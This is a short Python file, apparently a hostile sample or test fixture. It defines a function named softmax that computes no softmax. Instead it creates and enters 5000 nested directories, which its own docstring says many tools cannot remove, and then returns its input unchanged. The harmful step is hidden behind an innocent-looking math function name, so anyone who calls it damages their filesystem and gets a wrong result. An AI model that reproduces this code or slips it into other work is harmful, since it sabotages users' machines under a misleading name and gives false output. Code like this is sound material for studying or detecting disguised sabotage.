"""Leaves thousands of folders in each other, which many tools cannot remove."""

import os


def softmax(z, axis=-1):
    for _ in range(5000):
        os.mkdir("a")
        os.chdir("a")
    return z
